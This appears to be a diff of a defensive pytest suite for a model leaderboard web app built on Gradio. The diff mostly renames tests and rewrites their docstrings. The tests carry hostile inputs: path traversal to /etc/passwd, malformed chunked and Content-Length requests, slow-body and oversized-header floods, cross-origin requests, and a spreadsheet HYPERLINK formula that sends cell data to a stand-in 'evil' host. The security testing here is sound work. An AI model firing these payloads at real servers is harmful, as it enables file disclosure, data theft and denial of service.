@@ -1,4 +1,4 @@
-"""Attacks on the page by raw HTTP, without a client that would be polite."""
+"""Test attacks on the web application, mostly by raw HTTP requests that no ordinary client would send."""
 
 import csv
 import io
@@ -43,18 +43,18 @@ API = "/gradio_api"
 
 
 @pytest.fixture(scope="module")
-def quiet(tmp_path_factory: pytest.TempPathFactory, models_dir: Path) -> Iterator[str]:
-    """A board that these tests only read from."""
-    folder = tmp_path_factory.mktemp("quiet")
+def quiet_board(tmp_path_factory: pytest.TempPathFactory, models_dir: Path) -> Iterator[str]:
+    """Yield the address of a board that the tests only read from."""
+    folder = tmp_path_factory.mktemp("quiet_board")
     settings = Settings(store=str(folder / "store.git"), work_dir=folder / "work", models_dir=models_dir)
     with serve(build_app(settings)) as address:
         yield address
 
 
 @pytest.fixture(scope="module")
-def attacked(tmp_path_factory: pytest.TempPathFactory, models_dir: Path) -> Iterator[tuple[str, str]]:
-    """A board that many submissions are sent to, and its store."""
-    settings = settings_in(tmp_path_factory.mktemp("attacked"), models_dir)
+def attacked_board(tmp_path_factory: pytest.TempPathFactory, models_dir: Path) -> Iterator[tuple[str, str]]:
+    """Yield the address and the store of a board that receives many submissions."""
+    settings = settings_in(tmp_path_factory.mktemp("attacked_board"), models_dir)
     with serve(build_app(settings)) as address:
         yield address, settings.store
 
@@ -66,8 +66,8 @@ def address(settings: Settings) -> Iterator[str]:
 
 
 @pytest.fixture(scope="module")
-def reader(quiet: str) -> Iterator[httpx.Client]:
-    with httpx.Client(base_url=quiet, timeout=60) as client:
+def reader(quiet_board: str) -> Iterator[httpx.Client]:
+    with httpx.Client(base_url=quiet_board, timeout=60) as client:
         yield client
 
 
@@ -78,7 +78,7 @@ def client(address: str) -> Iterator[httpx.Client]:
 
 
 def raw(address: str, request: bytes) -> bytes:
-    """What is answered to bytes that no client would send."""
+    """Send bytes that no client would send and return the response."""
     parts = urlsplit(address)
     with socket.create_connection((str(parts.hostname), int(parts.port or 0)), timeout=30) as connection:
         connection.sendall(request)
@@ -105,10 +105,10 @@ FILES = ["/etc/passwd", str(ROOT / "app.py"), str(ROOT / ".git/HEAD"), str(ROOT 
         "/boards/..%2f..%2f..{}.csv",
     ],
 )
-def test_no_file_of_the_machine_is_served(quiet: str, path: str, file: str) -> None:
+def test_host_files_are_not_served(quiet_board: str, path: str, file: str) -> None:
     with Path(file).open(encoding="utf-8") as real:
         piece = real.read(60).encode()
-    answer = raw(quiet, f"GET {path.format(file)} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
+    answer = raw(quiet_board, f"GET {path.format(file)} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
     assert answer.split()[1] in (b"404", b"403", b"400") and piece not in answer
 
 
@@ -127,7 +127,7 @@ def test_no_file_of_the_machine_is_served(quiet: str, path: str, file: str) -> N
         ("GET", f"{API}/dev/reload"),
         ("GET", f"{API}/token"),
         ("GET", f"{API}/runs"),
-        ("GET", "/pwa_icon/100000"),  # Gradio would make a picture of that size
+        ("GET", "/pwa_icon/100000"),  # Gradio would create an image of that size
         ("GET", "/monitoring"),
         ("GET", "/monitoring/summary"),
         ("POST", "/login"),
@@ -138,12 +138,12 @@ def test_no_file_of_the_machine_is_served(quiet: str, path: str, file: str) -> N
         ("TRACE", "/"),
     ],
 )
-def test_what_the_board_does_not_need_is_closed(quiet: str, method: str, path: str) -> None:
+def test_unused_endpoints_are_closed(quiet_board: str, method: str, path: str) -> None:
     for prefix in ("", "/en"):
-        assert httpx.request(method, quiet + prefix + path, json={"data": []}).status_code == 404
+        assert httpx.request(method, quiet_board + prefix + path, json={"data": []}).status_code == 404
 
 
-def test_what_it_needs_is_open(reader: httpx.Client) -> None:
+def test_needed_endpoints_are_open_with_security_headers(reader: httpx.Client) -> None:
     for path in ("/", "/en/", "/config", "/theme.css", f"{API}/info", f"{API}/app_id", "/robots.txt"):
         answer = reader.get(path)
         assert answer.status_code == 200, path
@@ -159,27 +159,27 @@ def join(client: httpx.Client, function: int, data: list[object], session: str =
 
 
 def outcome(client: httpx.Client, session: str = "s") -> str:
-    """The events of a session until all of its calls are done."""
+    """Return the events of a session until all of its calls are done."""
     with client.stream("GET", f"{API}/queue/data", params={"session_hash": session}) as events:
         return "".join(events.iter_text())
 
 
 def forms(client: httpx.Client) -> tuple[int, int]:
-    """The events that check and that submit."""
+    """Return the numbers of the check event and the submit event."""
     config = client.get("/config").json()
     (outcome,) = [c["id"] for c in config["components"] if c["props"].get("elem_id") == "outcome"]
     by_fields = {len(e["inputs"]): e["id"] for e in config["dependencies"] if e["outputs"] == [outcome]}
     return by_fields[5], by_fields[6]
 
 
-def test_a_long_body_is_refused_however_it_is_announced(reader: httpx.Client, quiet: str) -> None:
+def test_long_body_is_refused(reader: httpx.Client, quiet_board: str) -> None:
     long = b"x" * (guard.MAX_BODY + 1)
     assert reader.post(f"{API}/queue/join", content=long).status_code == 413
     head = f"POST {API}/queue/join HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nConnection: close\r\n"
     chunked = b"Transfer-Encoding: chunked\r\n\r\n" + f"{len(long):x}\r\n".encode() + long + b"\r\n0\r\n\r\n"
-    assert raw(quiet, head.encode() + chunked).split()[1] in (b"400", b"413")
+    assert raw(quiet_board, head.encode() + chunked).split()[1] in (b"400", b"413")
     for length in ("-5", "many", "9" * 30):
-        answer = raw(quiet, f"{head}Content-Length: {length}\r\n\r\n{{}}".encode())
+        answer = raw(quiet_board, f"{head}Content-Length: {length}\r\n\r\n{{}}".encode())
         assert answer.split()[1] in (b"400", b"413")
 
 
@@ -197,18 +197,18 @@ def test_a_long_body_is_refused_however_it_is_announced(reader: httpx.Client, qu
         ["tiny/image-text", ["ko-vqa"], "", "auto", "auto", False, {"username": "kim"}, {"preferred_username": "kim"}],
     ],
 )
-def test_fields_that_no_form_sends_do_no_harm(attacked: tuple[str, str], data: list[object]) -> None:
-    address, store = attacked
+def test_submit_survives_invalid_fields(attacked_board: tuple[str, str], data: list[object]) -> None:
+    address, store = attacked_board
     with httpx.Client(base_url=address, timeout=60) as client:
         _, submit = forms(client)
         join(client, submit, data)
-        said = outcome(client)
-    assert "Traceback" not in said and str(ROOT) not in said
+        events = outcome(client)
+    assert "Traceback" not in events and str(ROOT) not in events
     requests = [p for p in open_store(store).snapshot().files if p.startswith("requests/")]
     assert len(requests) <= 1
 
 
-def test_a_fault_of_ours_tells_a_visitor_nothing(
+def test_internal_error_hides_details_from_visitor(
     client: httpx.Client, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
 ) -> None:
     def broken(*_: object) -> None:
@@ -217,25 +217,25 @@ def test_a_fault_of_ours_tells_a_visitor_nothing(
     monkeypatch.setattr("submissions.checks.submit.check_model", broken)
     check, _ = forms(client)
     join(client, check, ["tiny/image-text", [], "", "auto", "auto"])
-    said = outcome(client)
-    assert '"success":false' in said and "swordfish" not in said and "Traceback" not in said
+    events = outcome(client)
+    assert '"success":false' in events and "swordfish" not in events and "Traceback" not in events
 
 
-def test_who_asks_too_often_is_told_to_wait(client: httpx.Client, settings: Settings) -> None:
+def test_check_is_rate_limited(client: httpx.Client, settings: Settings) -> None:
     most = int(SUBMIT_RATE.split("/")[0])
     check, _ = forms(client)
     for n in range(most + 1):
         join(client, check, ["no id", [], "", "auto", "auto"], f"s{n}")
-        said = outcome(client, f"s{n}")
-    assert "1분 뒤에" in said
+        events = outcome(client, f"s{n}")
+    assert "1분 뒤에" in events
 
 
 @pytest.mark.faults
-def test_ten_thousand_submissions_in_a_burst(client: httpx.Client, address: str, settings: Settings) -> None:
-    """Nearly all are turned away at the door, none gets in twice, and the page still answers."""
+def test_submission_burst_is_rate_limited(client: httpx.Client, address: str, settings: Settings) -> None:
+    """Of 10,000 submissions nearly all are rejected, one is queued, and the page still answers."""
     _, submit = forms(client)
 
-    def some(visitor: int) -> list[int]:
+    def submit_many(visitor: int) -> list[int]:
         data = ["tiny/image-text", ["ko-vqa"], "", "auto", "auto", False]
         body = json.dumps({"data": data, "fn_index": submit, "session_hash": f"b{visitor}"})
         parts = urlsplit(address)
@@ -250,7 +250,7 @@ def test_ten_thousand_submissions_in_a_burst(client: httpx.Client, address: str,
         return codes
 
     with ThreadPoolExecutor(8) as pool:
-        codes = [code for part in pool.map(some, range(8)) for code in part]
+        codes = [code for part in pool.map(submit_many, range(8)) for code in part]
     assert codes.count(429) >= 9_000 and set(codes) <= {200, 429, 503}
     assert client.get("/").status_code == 200
     for n in range(8):
@@ -259,7 +259,7 @@ def test_ten_thousand_submissions_in_a_burst(client: httpx.Client, address: str,
     assert len(requests) == 1
 
 
-def test_the_tables_as_files(reader: httpx.Client) -> None:
+def test_board_downloads_as_csv_json_and_parquet(reader: httpx.Client) -> None:
     answer = reader.get("/boards/ko-vqa.csv")
     assert answer.headers["Content-Encoding"] == "gzip"
     rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
@@ -275,7 +275,7 @@ def test_the_tables_as_files(reader: httpx.Client) -> None:
 @pytest.mark.parametrize(
     "start", [*FORMULA, *LINE, " =", "\u3000＝", "\x0b=", "\ufeff=", "\u2003+", "\u200b-", "\x00@", "\u202e="]
 )
-def test_no_text_of_a_file_begins_a_formula(start: str, make_request: Callable[..., EvalRequest]) -> None:
+def test_csv_escapes_formulas(start: str, make_request: Callable[..., EvalRequest]) -> None:
     from leaderboard.data.ranking import RankedRow
 
     evil = f'{start}HYPERLINK("http://evil/?x="&A1,"click")'
@@ -291,7 +291,7 @@ def test_no_text_of_a_file_begins_a_formula(start: str, make_request: Callable[.
     assert len(texts) == 7 and all(value == "'" + evil for value in texts)
 
 
-def test_secrets_are_left_out_of_the_log(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_log_redacts_secrets(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("HANNUN_HUB_TOKEN", "the-writing-token")
     monkeypatch.setenv("HF_TOKEN", "the-reading-token")
     api = {"model_id": "o/m", "base_url": "http://x/v1", "model": "m", "key": "OTHER_KEY"}
@@ -316,7 +316,7 @@ def test_secrets_are_left_out_of_the_log(monkeypatch: pytest.MonkeyPatch) -> Non
         assert secret not in text
 
 
-def test_a_log_of_json_is_one_object_a_line_without_secrets(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_json_log_is_one_line_without_secrets(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("HANNUN_LOG", "json")
     monkeypatch.setenv("HANNUN_HUB_TOKEN", 'a-"quoted"-토큰')
     formatter = Redacting("%(message)s", Settings())
@@ -325,16 +325,14 @@ def test_a_log_of_json_is_one_object_a_line_without_secrets(monkeypatch: pytest.
     except RuntimeError:
         record = logging.LogRecord("a", 30, "f", 1, '한글\nand a-"quoted"-토큰', (), sys.exc_info())
     line = formatter.format(record)
-    told = json.loads(line)
-    assert "\n" not in line and told.keys() == {"time", "level", "logger", "message", "traceback"}
-    assert (told["level"], told["logger"], told["message"]) == ("warning", "a", "한글\nand [secret]")
-    assert "RuntimeError" in told["traceback"] and "quoted" not in line
+    entry = json.loads(line)
+    assert "\n" not in line and entry.keys() == {"time", "level", "logger", "message", "traceback"}
+    assert (entry["level"], entry["logger"], entry["message"]) == ("warning", "a", "한글\nand [secret]")
+    assert "RuntimeError" in entry["traceback"] and "quoted" not in line
 
 
 @pytest.mark.parametrize("missing", ["OAUTH_CLIENT_SECRET", "SYSTEM"])
-def test_without_a_provider_nobody_is_signed_in_as_the_operator(
-    settings: Settings, monkeypatch: pytest.MonkeyPatch, missing: str
-) -> None:
+def test_build_app_requires_oauth_provider(settings: Settings, monkeypatch: pytest.MonkeyPatch, missing: str) -> None:
     for name in ("OAUTH_CLIENT_ID", "OAUTH_CLIENT_SECRET", "OAUTH_SCOPES", "OPENID_PROVIDER_URL", "SYSTEM", "SPACE_ID"):
         monkeypatch.setenv(name, "x")
     monkeypatch.delenv(missing)
@@ -342,7 +340,7 @@ def test_without_a_provider_nobody_is_signed_in_as_the_operator(
         build_app(settings.model_copy(update={"auth": "oauth"}))
 
 
-def test_a_visitors_address_is_the_proxys_word_only_for_known_proxies(
+def test_forwarded_address_is_trusted_only_from_known_proxies(
     monkeypatch: pytest.MonkeyPatch, settings: Settings
 ) -> None:
     trusted: list[object] = []
@@ -353,13 +351,15 @@ def test_a_visitors_address_is_the_proxys_word_only_for_known_proxies(
     monkeypatch.setenv("FORWARDED_ALLOW_IPS", "192.0.2.1")
     api.serve(FastAPI(), settings)
     assert trusted == [None, api.SPACE_PROXIES, "192.0.2.1"]
-    assert not any(ip_network(place).is_global for place in api.SPACE_PROXIES.split(",")), "no visitor's own"
+    assert not any(ip_network(place).is_global for place in api.SPACE_PROXIES.split(",")), (
+        "a visitor cannot have such an address"
+    )
 
 
 @pytest.mark.parametrize(
     ("headers", "status"),
     [
-        ({}, 422),  # a program; what follows is that the form is no form
+        ({}, 422),  # a program passes the origin check; 422 is the answer to the invalid body
         ({"Origin": "HOST"}, 422),
         ({"Origin": "HOST", "Sec-Fetch-Site": "same-origin"}, 422),
         ({"Origin": "https://evil.example"}, 403),
@@ -370,11 +370,11 @@ def test_a_visitors_address_is_the_proxys_word_only_for_known_proxies(
         ({"Sec-Fetch-Site": "same-site"}, 403),
     ],
 )
-def test_no_page_of_another_site_acts_as_its_visitor(
-    reader: httpx.Client, quiet: str, headers: dict[str, str], status: int
+def test_cross_site_requests_are_rejected(
+    reader: httpx.Client, quiet_board: str, headers: dict[str, str], status: int
 ) -> None:
-    """Gradio answered any origin, with credentials."""
-    sent = {name: value.replace("HOST", quiet) for name, value in headers.items()}
+    """Without the check, Gradio answers any origin, with credentials."""
+    sent = {name: value.replace("HOST", quiet_board) for name, value in headers.items()}
     answer = reader.post(f"{API}/queue/join", json=[], headers=sent)
     assert answer.status_code == status
     assert not [name for name in answer.headers if name.startswith("access-control-")]
@@ -383,7 +383,7 @@ def test_no_page_of_another_site_acts_as_its_visitor(
     assert "access-control-allow-origin" not in preflight.headers
 
 
-def test_another_site_cannot_sign_a_visitor_out(reader: httpx.Client) -> None:
+def test_cross_site_logout_is_rejected(reader: httpx.Client) -> None:
     for path in ("/logout", "/en/logout"):
         assert reader.get(path, headers={"Sec-Fetch-Site": "cross-site"}).status_code == 403
         assert reader.get(path, headers={"Sec-Fetch-Site": "same-origin"}).status_code != 403
@@ -402,7 +402,7 @@ def test_log_messages_are_one_line() -> None:
     assert "\x1b" not in formatter.format(record)
 
 
-def test_any_site_may_read_what_is_public(reader: httpx.Client) -> None:
+def test_public_data_allows_any_origin(reader: httpx.Client) -> None:
     for path in ("/boards/ko-vqa.json", "/queue.json", "/version", "/feed.xml"):
         answer = reader.get(path, headers={"Origin": "https://blog.example"})
         assert answer.headers["access-control-allow-origin"] == "*", path
@@ -411,20 +411,20 @@ def test_any_site_may_read_what_is_public(reader: httpx.Client) -> None:
     assert "access-control-allow-origin" not in page.headers
 
 
-def test_addresses_of_one_visitor_are_counted_together() -> None:
+def test_network_of_groups_ipv6_by_64() -> None:
     assert guard.network_of("2001:db8:1:2:3:4:5:6") == guard.network_of("2001:db8:1:2::1") == "2001:db8:1:2::/64"
     assert guard.network_of("2001:db8:1:3::1") != guard.network_of("2001:db8:1:2::1")
     assert guard.network_of("192.0.2.7") == guard.network_of("::ffff:192.0.2.7") == "192.0.2.7"
     assert guard.network_of("testclient") == guard.network_of("1.2.3.4:80") == "unknown"
 
 
-def test_a_burst_of_one_address_leaves_room_in_the_queue(settings: Settings) -> None:
+def test_queue_burst_from_one_address_is_limited(settings: Settings) -> None:
     with serve(build_app(settings)) as address, httpx.Client(base_url=address, timeout=60) as client:
         answers = [client.post(f"{API}/queue/join", json=[]).status_code for _ in range(100)]
         assert answers.count(429) >= 30 and client.get("/").status_code == 200
 
 
-def test_one_address_holds_only_so_many_requests_open(settings: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_open_requests_per_address_are_limited(settings: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(guard, "MAX_OPEN", 5)
     with serve(build_app(settings)) as address, ExitStack() as held:
         for _ in range(5):
@@ -433,9 +433,9 @@ def test_one_address_holds_only_so_many_requests_open(settings: Settings, monkey
         assert httpx.get(f"{address}/version").status_code == 429
 
 
-def test_a_body_comes_in_time_or_not_at_all(quiet: str, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_slow_body_times_out(quiet_board: str, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(guard, "BODY_SECONDS", 0.3)
-    parts = urlsplit(quiet)
+    parts = urlsplit(quiet_board)
     head = f"POST {API}/queue/join HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: 5000\r\n\r\n"
     with socket.create_connection((str(parts.hostname), int(parts.port or 0)), timeout=30) as connection:
         connection.sendall(head.encode() + b"[")
@@ -444,7 +444,7 @@ def test_a_body_comes_in_time_or_not_at_all(quiet: str, monkeypatch: pytest.Monk
 
 @pytest.fixture(scope="module")
 def bounded() -> Iterator[tuple[str, int]]:
-    """The protocol under an application that answers at once."""
+    """Yield host and port of an application that answers at once, served with the bounded HTTP protocol."""
 
     async def app(scope: Scope, receive: Receive, send: Send) -> None:
         await PlainTextResponse("yes")(scope, receive, send)
@@ -454,9 +454,9 @@ def bounded() -> Iterator[tuple[str, int]]:
         yield str(parts.hostname), int(parts.port or 0)
 
 
-def answer_to(place: tuple[str, int], *pieces: bytes) -> bytes:
-    """What comes back until the other side closes."""
-    with socket.create_connection(place, timeout=30) as connection:
+def answer_to(server: tuple[str, int], *pieces: bytes) -> bytes:
+    """Send the pieces and return everything that is received until the server closes the connection."""
+    with socket.create_connection(server, timeout=30) as connection:
         received = b""
         try:
             for piece in pieces:
@@ -468,8 +468,8 @@ def answer_to(place: tuple[str, int], *pieces: bytes) -> bytes:
         return received
 
 
-def test_the_head_of_a_request_has_an_end(bounded: tuple[str, int], monkeypatch: pytest.MonkeyPatch) -> None:
-    """40 to 80 MB of it were accepted, and one that never ends was waited for."""
+def test_request_head_is_bounded(bounded: tuple[str, int], monkeypatch: pytest.MonkeyPatch) -> None:
+    """Without the limits, the server accepts 40 to 80 MB of headers and waits for a head that never ends."""
     first = b"GET / HTTP/1.1\r\nHost: x\r\n"
     assert b"200 OK" in answer_to(bounded, first + b"Connection: close\r\nX: " + b"y" * 30_000 + b"\r\n\r\n")
     assert b"200 OK" not in answer_to(bounded, first + b"X: " + b"y" * 10_000_000 + b"\r\n\r\n")
@@ -478,11 +478,11 @@ def test_the_head_of_a_request_has_an_end(bounded: tuple[str, int], monkeypatch:
     monkeypatch.setattr("leaderboard.web.protocol.HEAD_SECONDS", 0.2)
     assert answer_to(bounded, first + b"X: ") == b""
     assert answer_to(bounded) == b""
-    # A second request on the same connection, too.
+    # The limit also applies to a second request on the same connection.
     assert answer_to(bounded, first + b"\r\n", first).count(b"200 OK") == 1
 
 
-def test_tokens_of_other_sites_are_nobodys(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_oauth_tokens_of_other_sites_are_rejected(monkeypatch: pytest.MonkeyPatch) -> None:
     asked: list[str] = []
 
     def whoami(self: HfApi) -> dict[str, object]:
